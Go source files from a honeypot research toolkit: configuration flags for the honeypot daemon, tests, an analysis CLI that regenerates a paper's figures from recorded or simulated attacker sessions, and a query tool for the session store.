	fs.StringVar(&c.TelnetAddr, "telnet", defaultTelnetAddr, "Telnet listen address (empty to disable)")
	fs.StringVar(&c.AdminAddr, "admin", "", "admin listen address serving /metrics, /healthz, /debug/pprof (empty to disable)")
	fs.StringVar(&c.ID, "id", defaultID, "honeypot node id")
	fs.StringVar(&c.Hostname, "hostname", defaultHostname, "fake hostname the shell presents")
	fs.DurationVar(&c.Timeout, "timeout", honeypot.DefaultTimeout, "hard session timeout")
	fs.StringVar(&c.Out, "out", "", "session JSONL output file (default stdout)")
	fs.StringVar(&c.Store, "store", "", "also sink sessions into a month-partitioned session store at this directory (queryable via hnanalyze -store)")
	fs.StringVar(&c.StoreCodec, "store-codec", "", `block codec for newly sealed store segments: "lz" (default) or "flate" (v1-compatible)`)
	fs.StringVar(&c.StoreFormat, "store-format", "", `segment layout for newly sealed store segments: "v2" (row blocks, default) or "v3" (columnar stripes; fastest projected scans)`)
	fs.IntVar(&c.StoreBatch, "store-max-batch", 0, "records per group-commit WAL write in the store (0 = default)")
	fs.DurationVar(&c.StoreDelay, "store-max-delay", 0, "longest a record may wait in the store's group-commit batch (0 = default)")
	fs.BoolVar(&c.Persistent, "persistent", false, "retain each client's filesystem across connections (defeats attacker consistency checks)")
	fs.StringVar(&c.Forward, "forward", "", "stream stored sessions to the fleet collector (hncollect) at this address; requires -store")
	fs.StringVar(&c.NodeID, "node-id", "", "node identity for fleet forwarding, [A-Za-z0-9._-] (default the -id value)")
	fs.IntVar(&c.ForwardBatch, "forward-batch", 0, "records per forwarded batch frame (0 = 256)")
	fs.DurationVar(&c.ForwardDelay, "forward-max-delay", 0, "longest a record may wait for a forward batch to fill (0 = 2ms)")
	fs.IntVar(&c.AckWindow, "ack-window", 0, "unacknowledged in-flight record cap before forwarding waits for collector acks (0 = 4x batch)")
	fs.BoolVar(&c.Live, "live", true, "run the streaming analytics pipeline on ingest (honeynet_live_* metrics, /live on -admin)")
	fs.IntVar(&c.MaxConns, "max-conns", defaultMaxConns, "global concurrent connection cap; oldest connection is shed at the cap (0 = unlimited)")
	fs.IntVar(&c.MaxConnsPerIP, "max-conns-per-ip", defaultMaxConnsPerIP, "per-IP concurrent connection cap; newcomers beyond it are shed (0 = unlimited)")
	fs.StringVar(&c.Rate, "rate", defaultRate, "per-IP connection admission rate, e.g. 5/s, 300/m (empty = unlimited)")
	fs.StringVar(&c.LogMaxSize, "log-max-size", defaultLogMaxSize, "rotate the session log past this size, e.g. 64MB, 1GB (0 = never)")
	fs.DurationVar(&c.DrainTimeout, "drain-timeout", defaultDrainTimeout, "on SIGTERM, wait this long for in-flight sessions before force-closing")
	fs.IntVar(&c.DLBudget, "download-budget", defaultDLBudget, "per-IP emulated fetches allowed per minute (0 = unlimited)")
}

// Validate parses and checks the string-typed knobs.
func (c *Config) Validate() error {
	if _, err := guard.ParseRate(c.Rate); err != nil {
		return fmt.Errorf("-rate: %w", err)
	}
	n, err := sessionlog.ParseSize(c.LogMaxSize)
	if err != nil {
		return fmt.Errorf("-log-max-size: %w", err)
	}
	c.logMaxBytes = n
	if c.SSHAddr == "" {
		return fmt.Errorf("-ssh must not be empty")
	}
	opts := store.Options{Codec: c.StoreCodec, Format: c.StoreFormat, MaxBatch: c.StoreBatch, MaxDelay: c.StoreDelay}
	if err := opts.Validate(); err != nil {
		return fmt.Errorf("-store-codec/-store-format/-store-max-batch/-store-max-delay: %w", err)
	}
	fopts := fleet.Options{Batch: c.ForwardBatch, MaxDelay: c.ForwardDelay, AckWindow: c.AckWindow}
	if err := fopts.Validate(); err != nil {
		return fmt.Errorf("-forward-batch/-forward-max-delay/-ack-window: %w", err)
	}
	if c.Forward != "" {
		if c.Store == "" {
			return fmt.Errorf("-forward requires -store (the local store is the durable send queue)")
		}
		node := c.NodeID
		if node == "" {
			node = c.ID
		}
		if !store.ValidNodeID(node) {
			return fmt.Errorf("-node-id: %q not a valid node id ([A-Za-z0-9._-], max 64)", node)
		}
	}
	return nil
}

// ServeConfig converts to the facade's configuration. Validate must
// have succeeded first.
func (c *Config) ServeConfig() honeynet.ServeConfig {
	return honeynet.ServeConfig{
		SSHAddr:         c.SSHAddr,
		TelnetAddr:      c.TelnetAddr,
		AdminAddr:       c.AdminAddr,
		ID:              c.ID,
		Hostname:        c.Hostname,
		Timeout:         c.Timeout,
		Persistent:      c.Persistent,
		MaxConns:        c.MaxConns,
		MaxConnsPerIP:   c.MaxConnsPerIP,
		Rate:            c.Rate,
		DownloadBudget:  c.DLBudget,
		StorePath:       c.Store,
		StoreCodec:      c.StoreCodec,
		StoreFormat:     c.StoreFormat,
		StoreMaxBatch:   c.StoreBatch,
		StoreMaxDelay:   c.StoreDelay,
		ForwardAddr:     c.Forward,
		ForwardNodeID:   c.NodeID,
		ForwardBatch:    c.ForwardBatch,
		ForwardMaxDelay: c.ForwardDelay,
		AckWindow:       c.AckWindow,
		LogPath:         c.Out,
		LogMaxSize:      c.logMaxBytes,
		DrainTimeout:    c.DrainTimeout,
		LiveOff:         !c.Live,
	}
}
