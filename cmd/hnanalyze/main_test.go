package main

import (
	"bytes"
	"compress/gzip"
	"io"
	"os"
	"path/filepath"
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/botnet"
	"honeynet/internal/core"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/store"
)

// TestRunOneCoversEveryFigure executes the CLI dispatch for every figure
// selector over a small dataset, so a renamed analyzer cannot silently
// break the tool.
func TestRunOneCoversEveryFigure(t *testing.T) {
	p, err := core.Simulate(simulate.Config{
		Scale: 5000,
		Seed:  9,
		End:   botnet.WindowStart.AddDate(0, 14, 0), // spans the variant start
	})
	if err != nil {
		t.Fatal(err)
	}
	ccfg := analysis.ClusterConfig{K: 8, SampleSize: 100, Seed: 9}
	figs := []string{
		"stats", "1", "2", "3a", "3b", "4a", "4b", "5", "6", "7", "8", "9",
		"10", "11", "12", "13", "14", "16", "17", "kselect", "table1",
		"storage", "mdrfckr", "appc", "events",
	}
	for _, fig := range figs {
		if err := runOne(p, fig, ccfg, false); err != nil {
			t.Errorf("fig %q: %v", fig, err)
		}
	}
	if err := runOne(p, "nope", ccfg, false); err == nil {
		t.Error("unknown figure must error")
	}
	// CSV mode works for a representative figure.
	if err := runOne(p, "stats", ccfg, true); err != nil {
		t.Errorf("csv mode: %v", err)
	}
}

// TestStoreAndJSONLByteIdentical is the store PR's acceptance
// criterion: `-fig all` output must be byte-identical whether the
// dataset comes from -in (JSONL) or -store (session store directory),
// for any -workers value. The store persists a dense global append
// sequence per record, so Load reconstructs the exact insertion order
// the figure sample depends on.
func TestStoreAndJSONLByteIdentical(t *testing.T) {
	p, err := core.Simulate(simulate.Config{
		Scale: 5000,
		Seed:  11,
		End:   botnet.WindowStart.AddDate(0, 14, 0),
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := p.World.Store.All()

	dir := t.TempDir()
	jsonl := filepath.Join(dir, "dataset.jsonl")
	f, err := os.Create(jsonl)
	if err != nil {
		t.Fatal(err)
	}
	sw := session.NewWriter(f)
	for _, r := range recs {
		if err := sw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := sw.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	storeDir := filepath.Join(dir, "store")
	st, err := store.Open(storeDir, store.Options{SealBytes: 1 << 18})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := st.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}

	ccfg := analysis.ClusterConfig{K: 8, SampleSize: 100, Seed: 11}
	run := func(p *core.Pipeline, workers int) string {
		t.Helper()
		p.World.Workers = workers
		cc := ccfg
		cc.Workers = workers
		var buf bytes.Buffer
		if err := p.RunAll(&buf, cc); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}

	pj, err := loadDataset(jsonl, 11)
	if err != nil {
		t.Fatal(err)
	}
	want := run(pj, 1)
	for _, workers := range []int{1, 3, 8} {
		ps, err := loadStore(storeDir, 11)
		if err != nil {
			t.Fatal(err)
		}
		if got := run(ps, workers); got != want {
			t.Fatalf("-store output differs from -in output at workers=%d (lengths %d vs %d)",
				workers, len(got), len(want))
		}
	}
	// The JSONL path itself is worker-invariant too (regression guard).
	pj2, err := loadDataset(jsonl, 11)
	if err != nil {
		t.Fatal(err)
	}
	if got := run(pj2, 6); got != want {
		t.Fatal("-in output differs across -workers")
	}
}

// TestStoreGzipInputParity: -in reads .gz transparently, so compressing
// the dataset must not change a byte of output.
func TestStoreGzipInputParity(t *testing.T) {
	p, err := core.Simulate(simulate.Config{
		Scale: 20000,
		Seed:  3,
		End:   botnet.WindowStart.AddDate(0, 3, 0),
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := p.World.Store.All()

	dir := t.TempDir()
	plain := filepath.Join(dir, "d.jsonl")
	gzPath := filepath.Join(dir, "d.jsonl.gz")
	pf, err := os.Create(plain)
	if err != nil {
		t.Fatal(err)
	}
	gf, err := os.Create(gzPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := gzip.NewWriter(gf)
	mw := session.NewWriter(io.MultiWriter(pf, zw))
	for _, r := range recs {
		if err := mw.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := mw.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gf.Close(); err != nil {
		t.Fatal(err)
	}
	if err := pf.Close(); err != nil {
		t.Fatal(err)
	}

	ccfg := analysis.ClusterConfig{K: 4, SampleSize: 50, Seed: 3}
	outs := make([]string, 2)
	for i, path := range []string{plain, gzPath} {
		p, err := loadDataset(path, 3)
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		p.World.Workers = 2
		var buf bytes.Buffer
		if err := p.RunAll(&buf, ccfg); err != nil {
			t.Fatal(err)
		}
		outs[i] = buf.String()
	}
	if outs[0] != outs[1] {
		t.Fatal("gzip-compressed dataset produced different output than plain JSONL")
	}
}

// TestMixedFormatStoreByteIdentical: a store whose sealed segments
// span all three on-disk generations — v1 DEFLATE rows, v2 LZ rows,
// v3 columnar stripes — must produce -fig all output byte-identical
// to a uniform store over the same records. Each segment's codec is
// recorded in the manifest; the figure pipeline must not care.
func TestMixedFormatStoreByteIdentical(t *testing.T) {
	p, err := core.Simulate(simulate.Config{
		Scale: 20000,
		Seed:  7,
		End:   botnet.WindowStart.AddDate(0, 3, 0),
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := p.World.Store.All()

	dir := t.TempDir()
	uniformDir := filepath.Join(dir, "uniform")
	st, err := store.Open(uniformDir, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := st.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}

	// The mixed store seals one third of the stream per generation, by
	// reopening with different options between seals.
	mixedDir := filepath.Join(dir, "mixed")
	phases := []store.Options{
		{Codec: store.CodecFlate},
		{Codec: store.CodecLZ},
		{Format: store.FormatV3},
	}
	chunk := (len(recs) + len(phases) - 1) / len(phases)
	for pi, opt := range phases {
		ms, err := store.Open(mixedDir, opt)
		if err != nil {
			t.Fatal(err)
		}
		lo, hi := pi*chunk, (pi+1)*chunk
		if hi > len(recs) {
			hi = len(recs)
		}
		for _, r := range recs[lo:hi] {
			if err := ms.Append(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := ms.Seal(); err != nil {
			t.Fatal(err)
		}
		if err := ms.Close(); err != nil {
			t.Fatal(err)
		}
	}

	ccfg := analysis.ClusterConfig{K: 4, SampleSize: 50, Seed: 7, Workers: 2}
	run := func(dir string) string {
		t.Helper()
		p, err := loadStore(dir, 7)
		if err != nil {
			t.Fatal(err)
		}
		p.World.Workers = 2
		var buf bytes.Buffer
		if err := p.RunAll(&buf, ccfg); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	if run(uniformDir) != run(mixedDir) {
		t.Fatal("-fig all output differs between uniform and mixed-format stores")
	}
}
