package main

import (
	"testing"

	"honeynet/internal/analysis"
	"honeynet/internal/botnet"
	"honeynet/internal/core"
	"honeynet/internal/simulate"
)

// TestRunOneCoversEveryFigure executes the CLI dispatch for every figure
// selector over a small dataset, so a renamed analyzer cannot silently
// break the tool.
func TestRunOneCoversEveryFigure(t *testing.T) {
	p, err := core.Simulate(simulate.Config{
		Scale: 5000,
		Seed:  9,
		End:   botnet.WindowStart.AddDate(0, 14, 0), // spans the variant start
	})
	if err != nil {
		t.Fatal(err)
	}
	ccfg := analysis.ClusterConfig{K: 8, SampleSize: 100, Seed: 9}
	figs := []string{
		"stats", "1", "2", "3a", "3b", "4a", "4b", "5", "6", "7", "8", "9",
		"10", "11", "12", "13", "14", "16", "17", "kselect", "table1",
		"storage", "mdrfckr", "appc", "events",
	}
	for _, fig := range figs {
		if err := runOne(p, fig, ccfg, false); err != nil {
			t.Errorf("fig %q: %v", fig, err)
		}
	}
	if err := runOne(p, "nope", ccfg, false); err == nil {
		t.Error("unknown figure must error")
	}
	// CSV mode works for a representative figure.
	if err := runOne(p, "stats", ccfg, true); err != nil {
		t.Errorf("csv mode: %v", err)
	}
}
