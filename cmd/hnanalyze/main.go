// Command hnanalyze reproduces every table and figure of the paper's
// evaluation: it simulates the 33-month dataset (or a shorter window)
// and prints one text table per experiment.
//
// Usage:
//
//	hnanalyze [-scale 2000] [-seed 42] [-k 90] [-sample 2000] [-months 33] [-fig all] [-csv] [-in dataset.jsonl[.gz]] [-store DIR] [-workers N] [-cache DIR]
//
// -fig selects a single output: stats, 1, 2, 3a, 3b, 4a, 4b, 5, 6, 7, 8,
// 9, 10, 11, 12, 13, 14, 16, 17, table1, storage, mdrfckr, appc, kselect,
// all.
//
// -store reads v1 (DEFLATE), v2 (LZ), and v3 (columnar) segments
// transparently — the codec and layout each segment was sealed with
// are recorded in the store's manifest — streaming the records in
// exact global append order with peak memory bounded by the open
// blocks, and output is byte-identical to -in over the same records,
// whatever format mix or -workers value is used.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"runtime"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/asdb"
	"honeynet/internal/botnet"
	"honeynet/internal/collector"
	"honeynet/internal/core"
	"honeynet/internal/obs"
	"honeynet/internal/query"
	"honeynet/internal/report"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/store"
)

func main() {
	var (
		scale    = flag.Float64("scale", 2000, "scale divisor applied to paper-scale session rates")
		seed     = flag.Int64("seed", 42, "deterministic RNG seed")
		k        = flag.Int("k", 90, "cluster count for the section 6 pipeline")
		sample   = flag.Int("sample", 2000, "max distinct command texts to cluster")
		months   = flag.Int("months", 0, "simulate only the first N months (0 = full window)")
		fig      = flag.String("fig", "all", "which figure/table to print")
		in       = flag.String("in", "", "analyze an existing hnsim JSONL dataset (plain or .gz) instead of simulating (pass the -seed hnsim used so AS attribution matches)")
		storeDir = flag.String("store", "", "analyze a month-partitioned session store directory (hnsim -store / honeypotd -store) instead of simulating")
		csv      = flag.Bool("csv", false, "emit CSV instead of aligned text (single-figure mode)")
		workers  = flag.Int("workers", runtime.NumCPU(), "worker goroutines for simulation and analysis (output is identical for any value; 1 = serial)")
		timings  = flag.Bool("timings", false, "print a per-phase timing breakdown to stderr after the run (tables on stdout are unaffected)")
		cache    = flag.String("cache", "", "directory for the on-disk DLD matrix cache (content-hash keyed; results are identical with or without it)")
		where    = flag.String("where", "", "hnquery predicate pre-filtering the sessions every figure sees, e.g. \"proto = 'ssh' AND cmd ~ /mdrfckr/\" (see README: Querying the store)")
	)
	flag.Parse()

	// -where compiles through the hnquery planner before any data is
	// simulated or loaded, so a typo fails in milliseconds, with a
	// position, not after a multi-second dataset build.
	var pre store.Filter
	if *where != "" {
		var err error
		if pre, err = query.CompileFilter(*where); err != nil {
			log.Fatalf("hnanalyze: -where: %v", err)
		}
	}

	// The tracer only observes the clock; tables on stdout stay
	// byte-identical with or without -timings.
	var tracer *obs.Tracer
	if *timings {
		tracer = obs.NewTracer()
	}

	if *in != "" && *storeDir != "" {
		log.Fatal("hnanalyze: -in and -store are mutually exclusive")
	}

	start := time.Now()
	var p *core.Pipeline
	var err error
	if *in != "" || *storeDir != "" {
		if *in != "" {
			p, err = loadDataset(*in, *seed)
		} else {
			p, err = loadStore(*storeDir, *seed)
		}
		if p != nil {
			p.World.Workers = *workers
			p.World.Tracer = tracer
			if len(p.MissingJoins) > 0 {
				fmt.Fprintf(os.Stderr, "hnanalyze: warning: dataset loaded without %v — figures 7, 8, 9, 17, and mdrfckr join on feeds only a simulation populates and will be empty (pass the -seed hnsim used for AS parity)\n",
					p.MissingJoins)
			}
		}
	} else {
		cfg := simulate.Config{Scale: *scale, Seed: *seed, Workers: *workers, Tracer: tracer}
		if *months > 0 {
			cfg.End = botnet.WindowStart.AddDate(0, *months, 0)
		}
		p, err = core.Simulate(cfg)
	}
	if err != nil {
		log.Fatalf("hnanalyze: %v", err)
	}
	p.World.MatrixCache = *cache
	if pre != nil {
		total := p.World.Store.Len()
		kept := collector.NewStore()
		for _, r := range p.World.Store.All() {
			if pre(r) {
				kept.Add(r)
			}
		}
		p.World.Store = kept
		fmt.Fprintf(os.Stderr, "hnanalyze: -where kept %d of %d sessions\n", kept.Len(), total)
	}
	fmt.Fprintf(os.Stderr, "hnanalyze: dataset ready in %v (%d sessions)\n",
		time.Since(start).Round(time.Millisecond), p.World.Store.Len())

	ccfg := analysis.ClusterConfig{K: *k, SampleSize: *sample, Seed: *seed, Workers: *workers}
	sp := tracer.Span("analyze")
	if *fig == "all" {
		err = p.RunAll(os.Stdout, ccfg)
	} else {
		err = runOne(p, *fig, ccfg, *csv)
	}
	sp.End()
	if err != nil {
		log.Fatalf("hnanalyze: %v", err)
	}
	if tracer != nil {
		fmt.Fprintln(os.Stderr)
		tracer.WriteTable(os.Stderr)
	}
}

// emit prints a table as text or CSV.
func emit(t *report.Table, csv bool) {
	if csv {
		fmt.Print(t.CSV())
		return
	}
	fmt.Println(t)
}

// loadDataset reads a JSONL dataset written by cmd/hnsim. Rebuilding
// the AS registry from the same seed hnsim used restores identical
// (IP, time) -> AS attribution, since both allocation and lookup are
// deterministic.
func loadDataset(path string, seed int64) (*core.Pipeline, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	recs, err := session.ReadAll(f)
	if err != nil {
		return nil, err
	}
	w := &analysis.World{Registry: asdb.NewRegistry(seed+1, 2000)}
	return core.FromRecords(recs, w), nil
}

// loadStore streams a month-partitioned session store (written by
// hnsim -store or a live honeypotd -store) into the pipeline in exact
// global append order, one record at a time — peak memory is the
// collector's working set plus the open scan blocks, not a second full
// copy of the dataset. The figure output is byte-identical to analyzing
// the equivalent JSONL via -in. A fleet directory written by hncollect
// (node-<id>/ shards) streams transparently, one month resident at a
// time, merged into the fleet's canonical (time, node, seq) order.
func loadStore(dir string, seed int64) (*core.Pipeline, error) {
	w := &analysis.World{Registry: asdb.NewRegistry(seed+1, 2000)}
	if store.IsFleetDir(dir) {
		fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
		if err != nil {
			return nil, err
		}
		defer fl.Close()
		return core.FromRecordCursor(fl.Stream(), w)
	}
	st, err := store.Open(dir, store.Options{ReadOnly: true})
	if err != nil {
		return nil, err
	}
	defer st.Close()
	src := st.Stream()
	defer src.Close()
	return core.FromRecordCursor(src, w)
}

func runOne(p *core.Pipeline, fig string, ccfg analysis.ClusterConfig, csv bool) error {
	w := p.World
	switch fig {
	case "stats":
		emit(analysis.Stats(w).Table(), csv)
	case "1":
		emit(analysis.Fig1Table(analysis.Fig1(w)), csv)
	case "2":
		emit(analysis.SharesTable("Figure 2: non-state-changing sessions", analysis.Fig2(w), 8), csv)
	case "3a":
		emit(analysis.SharesTable("Figure 3a: file add/modify/delete without exec", analysis.Fig3a(w), 8), csv)
	case "3b":
		emit(analysis.SharesTable("Figure 3b: file-execution sessions", analysis.Fig3b(w), 8), csv)
	case "4a", "4b":
		f4 := analysis.Fig4(w)
		if fig == "4a" {
			emit(analysis.SharesTable("Figure 4a: exec sessions, file exists", f4.Exists, 8), csv)
		} else {
			emit(analysis.SharesTable("Figure 4b: exec sessions, file missing", f4.Missing, 8), csv)
		}
	case "5", "6":
		cres, err := analysis.RunClustering(w, ccfg)
		if err != nil {
			return err
		}
		if fig == "5" {
			emit(cres.Fig5Table(0), csv)
		} else {
			emit(analysis.Fig6Table(cres.Fig6(5)), csv)
		}
	case "7":
		emit(analysis.Fig7(w).Table(), csv)
	case "8":
		emit(analysis.Fig8Table(analysis.Fig8(w)), csv)
	case "9":
		for _, rc := range []struct {
			name string
			days int
		}{{"1-week", 7}, {"4-week", 28}, {"1-year", 365}, {"all", 0}} {
			emit(analysis.Fig9Table("Figure 9 ("+rc.name+" recall)", analysis.Fig9(w, rc.days)), csv)
		}
	case "10":
		emit(analysis.Fig10(w, 5).Table(), csv)
	case "11":
		emit(analysis.Fig11(w).Table(), csv)
	case "12":
		emit(analysis.Fig12Table(analysis.Fig12(w)), csv)
	case "13", "mdrfckr":
		cs := analysis.Mdrfckr(w, botnet.MdrfckrKeyHash())
		if fig == "13" {
			emit(cs.Fig13Table(), csv)
		} else {
			emit(cs.Table(), csv)
		}
	case "14":
		emit(analysis.Fig14(w, 10).Table(), csv)
	case "16":
		emit(analysis.Fig16Table(analysis.Fig16(w)), csv)
	case "17":
		emit(analysis.Fig17Table(analysis.Fig17(w)), csv)
	case "events":
		emit(analysis.EventsTable(analysis.EventCorrelation(w)), csv)
	case "kselect":
		sel, err := analysis.SelectK(w, []int{10, 20, 40, 60, 90, 120, 150}, 400, 42, ccfg)
		if err != nil {
			return err
		}
		emit(sel.Table(), csv)
		fmt.Printf("elbow k = %d, best silhouette k = %d\n", sel.ElbowK, sel.BestSilhouetteK)
	case "table1":
		emit(analysis.Table1(w).Table(), csv)
	case "storage":
		emit(analysis.Storage(w).Table(), csv)
	case "appc":
		emit(analysis.CurlProxy(w).Table(), csv)
	default:
		return fmt.Errorf("unknown figure %q", fig)
	}
	return nil
}
