// Command hnquery runs hnquery-DSL statements against a session store
// (or fleet) directory and prints the result: aligned text tables for
// projections and aggregates, canonical JSONL for SELECT *, and —
// with an EXPLAIN prefix — the chosen plan and its pruning statistics.
//
// Usage:
//
//	hnquery -store DIR [-csv] 'SELECT month, count(*) GROUP BY month'
//	hnquery -store DIR            # statements read from stdin, one per line
//
// The statement grammar (see the README "Querying the store" section):
//
//	[EXPLAIN] SELECT <*|fields|aggregates> [WHERE expr]
//	          [GROUP BY fields] [ORDER BY cols [DESC]] [LIMIT n]
//
// A fleet directory written by hncollect opens transparently: the
// query scatter-gathers across the per-node shards and the plan
// statistics sum shard-wide.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"log"
	"os"
	"strings"

	"honeynet/internal/query"
	"honeynet/internal/report"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

func main() {
	var (
		storeDir = flag.String("store", "", "session store or fleet directory (required)")
		csv      = flag.Bool("csv", false, "emit CSV instead of an aligned table")
	)
	flag.Parse()
	if *storeDir == "" {
		fmt.Fprintln(os.Stderr, "hnquery: -store DIR is required")
		flag.Usage()
		os.Exit(2)
	}

	src, err := openSource(*storeDir)
	if err != nil {
		log.Fatalf("hnquery: %v", err)
	}
	defer src.Close()

	if args := flag.Args(); len(args) > 0 {
		if err := runOne(src, strings.Join(args, " "), *csv); err != nil {
			log.Fatalf("hnquery: %v", err)
		}
		return
	}

	// REPL-ish mode: one statement per stdin line, errors don't end the
	// session.
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		stmt := strings.TrimSpace(sc.Text())
		if stmt == "" || strings.HasPrefix(stmt, "--") {
			continue
		}
		if err := runOne(src, stmt, *csv); err != nil {
			fmt.Fprintf(os.Stderr, "hnquery: %v\n", err)
		}
	}
	if err := sc.Err(); err != nil {
		log.Fatalf("hnquery: reading stdin: %v", err)
	}
}

// source is what hnquery needs from a store or fleet handle.
type source interface {
	query.Source
	Close() error
}

// openSource opens dir read-only as a single store or, transparently,
// as a fleet of per-node shards.
func openSource(dir string) (source, error) {
	if store.IsFleetDir(dir) {
		return store.OpenFleet(dir, store.Options{ReadOnly: true})
	}
	return store.Open(dir, store.Options{ReadOnly: true})
}

// runOne executes one statement and prints its result.
func runOne(src source, stmt string, csv bool) error {
	res, err := query.Run(src, stmt)
	if err != nil {
		// Positioned errors get a caret line so the offending token is
		// visible at a glance.
		if se, ok := err.(*query.SyntaxError); ok && se.Pos <= len(stmt) {
			fmt.Fprintf(os.Stderr, "  %s\n  %s^\n", stmt, strings.Repeat(" ", se.Pos))
		}
		return err
	}
	for _, line := range res.Explain {
		fmt.Println(line)
	}
	if res.Explain != nil {
		fmt.Println()
	}

	// SELECT * streams full records as canonical JSONL.
	if res.Records != nil || len(res.Columns) == 0 {
		w := bufio.NewWriter(os.Stdout)
		defer w.Flush()
		var buf []byte
		for _, r := range res.Records {
			buf, err = session.AppendJSON(buf[:0], r)
			if err != nil {
				return err
			}
			buf = append(buf, '\n')
			if _, err := w.Write(buf); err != nil {
				return err
			}
		}
		return w.Flush()
	}

	t := &report.Table{Headers: res.Columns}
	for _, row := range res.Rows {
		cells := make([]any, len(row))
		for i, v := range row {
			cells[i] = v.String()
		}
		t.AddRow(cells...)
	}
	if csv {
		fmt.Print(t.CSV())
	} else {
		fmt.Println(t)
	}
	return nil
}
