// Command hnquery runs hnquery-DSL statements against a session store
// (or fleet) directory and prints the result: aligned text tables for
// projections and aggregates, canonical JSONL for SELECT *, and —
// with an EXPLAIN prefix — the chosen plan and its pruning statistics.
//
// Usage:
//
//	hnquery -store DIR [-csv] 'SELECT month, count(*) GROUP BY month'
//	hnquery -store DIR            # statements read from stdin, one per line
//	hnquery -store DIR -follow ['predicate']
//
// The statement grammar (see the README "Querying the store" section):
//
//	[EXPLAIN] SELECT <*|fields|aggregates> [WHERE expr]
//	          [GROUP BY fields] [ORDER BY cols [DESC]] [LIMIT n]
//
// A fleet directory written by hncollect opens transparently: the
// query scatter-gathers across the per-node shards and the plan
// statistics sum shard-wide.
//
// -follow tails the store (or every shard of a fleet) live: records are
// printed as canonical JSONL as another process appends them, no Load,
// no restart. The optional positional argument is a bare WHERE
// predicate (same grammar as the statement WHERE clause) filtering the
// stream, e.g.:
//
//	hnquery -store fleet/ -follow "downloads > 0 AND proto = 'ssh'"
package main

import (
	"bufio"
	"context"
	"errors"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"honeynet/internal/query"
	"honeynet/internal/report"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

func main() {
	var (
		storeDir = flag.String("store", "", "session store or fleet directory (required)")
		csv      = flag.Bool("csv", false, "emit CSV instead of an aligned table")
		follow   = flag.Bool("follow", false, "tail the store live, printing appended records as canonical JSONL (optional argument: a WHERE predicate)")
		interval = flag.Duration("interval", time.Second, "poll interval for -follow")
	)
	flag.Parse()
	if *storeDir == "" {
		fmt.Fprintln(os.Stderr, "hnquery: -store DIR is required")
		flag.Usage()
		os.Exit(2)
	}

	if *follow {
		if err := runFollow(*storeDir, strings.Join(flag.Args(), " "), *interval); err != nil {
			log.Fatalf("hnquery: %v", err)
		}
		return
	}

	src, err := openSource(*storeDir)
	if err != nil {
		log.Fatalf("hnquery: %v", err)
	}
	defer src.Close()

	if args := flag.Args(); len(args) > 0 {
		if err := runOne(src, strings.Join(args, " "), *csv); err != nil {
			log.Fatalf("hnquery: %v", err)
		}
		return
	}

	// REPL-ish mode: one statement per stdin line, errors don't end the
	// session.
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	for sc.Scan() {
		stmt := strings.TrimSpace(sc.Text())
		if stmt == "" || strings.HasPrefix(stmt, "--") {
			continue
		}
		if err := runOne(src, stmt, *csv); err != nil {
			fmt.Fprintf(os.Stderr, "hnquery: %v\n", err)
		}
	}
	if err := sc.Err(); err != nil {
		log.Fatalf("hnquery: reading stdin: %v", err)
	}
}

// source is what hnquery needs from a store or fleet handle.
type source interface {
	query.Source
	Close() error
}

// openSource opens dir read-only as a single store or, transparently,
// as a fleet of per-node shards. A directory whose writer has a
// background seal in flight (frozen WAL present) can fail to open for a
// moment mid-rename; instead of dying with an opaque error, wait the
// seal out with a clear message and retry briefly.
func openSource(dir string) (source, error) {
	const (
		tries = 20
		pause = 250 * time.Millisecond
	)
	var lastErr error
	for attempt := 0; attempt < tries; attempt++ {
		if attempt > 0 {
			time.Sleep(pause)
		}
		src, err := openSourceOnce(dir)
		if err == nil {
			return src, nil
		}
		lastErr = err
		if !sealingAnywhere(dir) {
			return nil, err
		}
		if attempt == 0 {
			fmt.Fprintf(os.Stderr, "hnquery: %s: background seal in progress, waiting for it to settle...\n", dir)
		}
	}
	return nil, fmt.Errorf("%w (a background seal kept the store busy for %v; retry once the writer's seal finishes)",
		lastErr, time.Duration(tries)*pause)
}

func openSourceOnce(dir string) (source, error) {
	if store.IsFleetDir(dir) {
		return store.OpenFleet(dir, store.Options{ReadOnly: true})
	}
	return store.Open(dir, store.Options{ReadOnly: true})
}

// sealingAnywhere reports whether dir — or any node shard under it —
// currently holds a frozen WAL awaiting a background seal.
func sealingAnywhere(dir string) bool {
	if store.Sealing(dir) {
		return true
	}
	if !store.IsFleetDir(dir) {
		return false
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		if e.IsDir() && strings.HasPrefix(e.Name(), store.NodeDirPrefix) &&
